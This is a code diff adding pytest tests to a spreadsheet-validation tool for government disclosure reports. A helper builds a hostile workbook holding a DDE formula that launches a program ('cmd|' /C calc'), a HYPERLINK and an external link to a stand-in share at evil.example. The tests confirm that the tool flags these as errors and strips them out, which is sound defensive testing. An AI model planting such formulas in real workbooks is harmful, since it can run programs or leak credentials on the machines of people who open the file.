@@ -565,3 +565,97 @@ def test_english_counts_one_thing_in_the_singular_and_uses_ascii_brackets(tmp_pa
     out = said("--lang", "en", "merge", tie, "-o", tmp_path / "s.xlsx", "--unit", "县")
     assert out == "xltools: The inputs report different years, equally often: 2024 (2), 2023 (2); say which with " \
         "--year\n"
+
+
+def test_formulas_that_run_programs_or_reach_other_files_are_findings(tmp_path):
+    # issue 26 (3): a DDE formula, a HYPERLINK to a share and an external link part gave 0 findings
+    result = one(_formulas_and_links(tmp_path / "示例.xlsx"))
+    said = [(f.rule, f.severity, f.message()) for f in result.findings if f.rule in ("S6", "W11")]
+    assert said == [
+        ("S6", "error", "工作簿含有指向外部文件的链接“file://///evil.example/share/x.xlsx”，"
+                        "打开时 Excel 会尝试连接它。"),
+        ("S6", "error", "封面!C3 含有引用其他文件或网络位置的公式（如 封面!C3："
+                        "“=HYPERLINK(\"file://///evil.example/share/doc\",\"点击查看\")”）。"),
+        ("S6", "error", "一、总体情况!A4 含有 DDE 公式（如 一、总体情况!A4：“=cmd|' /C calc'!A0”），"
+                        "打开文件时可能启动其他程序。"),
+        ("W11", "warning", "二、主动公开!B6 应直接填写数值或文字，实际含有公式（如 二、主动公开!B6：“=1-1”）。"),
+    ]
+
+
+def _formulas_and_links(path):
+    """The seed's workbook with a DDE formula in 一、总体情况!A4 (its cached value the
+    text it replaced), a HYPERLINK to a share on 封面, a formula in an input cell and
+    an external link part: what a review of the desk smuggled through."""
+    import re
+    import zipfile
+
+    source = EXAMPLES / "chitudian-2023.xlsx"
+    with zipfile.ZipFile(source) as z:
+        parts = {i.filename: z.read(i) for i in z.infolist()}
+    overview = parts["xl/worksheets/sheet2.xml"].decode()
+    cached = re.search(r'<c r="A4" s="6" t="inlineStr"><is><t>(.*?)</t></is></c>', overview)
+    parts["xl/worksheets/sheet2.xml"] = overview.replace(
+        cached.group(0), f'<c r="A4" s="6" t="str"><f>cmd|\' /C calc\'!A0</f><v>{cached.group(1)}</v></c>').encode()
+    cover = parts["xl/worksheets/sheet1.xml"].decode()
+    row3 = cover.index("</row>", cover.index('<c r="B3"'))
+    parts["xl/worksheets/sheet1.xml"] = (cover[:row3] + '<c r="C3" t="str"><f>HYPERLINK("file://///evil.example/'
+                                         'share/doc","点击查看")</f><v>点击查看</v></c>' + cover[row3:]).encode()
+    proactive = parts["xl/worksheets/sheet3.xml"].decode()
+    typed = re.search(r'<c r="B6" ([^>]*)t="n"><v>0</v></c>', proactive)
+    parts["xl/worksheets/sheet3.xml"] = proactive.replace(typed.group(0), f'<c r="B6" {typed.group(1)}><f>1-1</f>'
+                                                          '<v>0</v></c>').encode()
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
+        b'openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>')
+    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
+        b'Target="file://///evil.example/share/x.xlsx" TargetMode="External"/></Relationships>')
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</sheets>", (
+        b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
+        b'2006/relationships" r:id="rId99"/></externalReferences>'))
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", (
+        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" '
+        b'Target="externalLinks/externalLink1.xml" Id="rId99"/></Relationships>'))
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", (
+        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
+        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'))
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    return path
+
+
+def test_the_marked_copy_keeps_values_where_the_template_has_no_formula_and_no_external_link(tmp_path, cli):
+    # issue 26 (3): the marked copy served to the unit and the office still held all three
+    import zipfile
+
+    hostile = _formulas_and_links(tmp_path / "示例.xlsx")
+    marked = tmp_path / "marked.xlsx"
+    cli("check", str(hostile), "--annotate", str(marked))
+    with zipfile.ZipFile(marked) as z:
+        assert [n for n in z.namelist() if "externalLink" in n] == []
+        assert b"externalLink" not in z.read("[Content_Types].xml") + z.read("xl/_rels/workbook.xml.rels")
+    wb = openpyxl.load_workbook(marked)
+    original = openpyxl.load_workbook(hostile, data_only=True)
+    assert (wb["一、总体情况"]["A4"].value, wb["封面"]["C3"].value, wb["二、主动公开"]["B6"].value) == (
+        original["一、总体情况"]["A4"].value, "点击查看", 0)
+    assert wb["三、依申请公开"]["J6"].value == "=SUM(D6:I6)"  # the template's totals stay formulas
+    assert [f.rule for f in one(marked).findings if f.rule in ("S6", "W11")] == []
+
+
+def test_a_workbook_with_formulas_and_links_is_not_summed_and_its_comparison_carries_neither(tmp_path, cli):
+    # issue 26 (3): S6 is an error, so merge leaves the file out; compare writes from the reports read
+    import re
+    import zipfile
+
+    hostile = _formulas_and_links(tmp_path / "示例.xlsx")
+    merged = cli("merge", str(hostile), "-o", str(tmp_path / "汇总.xlsx"), "--unit", "示例县", "--year", "2023")
+    assert merged.output.splitlines()[:3] == ["未写入汇总表：没有可以汇总的报送", "未汇总 1 份：",
+                                              f"  有错误  栾川县赤土店镇人民政府  {hostile}"]
+    assert cli("compare", str(hostile), str(hostile), "-o", str(tmp_path / "比较.xlsx")).exit_code == 0
+    with zipfile.ZipFile(tmp_path / "比较.xlsx") as z:
+        assert [n for n in z.namelist() if "externalLink" in n] == []
+        formulas = [f for n in z.namelist() if n.startswith("xl/worksheets/")
+                    for f in re.findall(rb"<f>([^<]*)</f>", z.read(n))]
+        assert [f for f in formulas if b"|" in f or b"HYPERLINK" in f or b"1-1" in f] == []
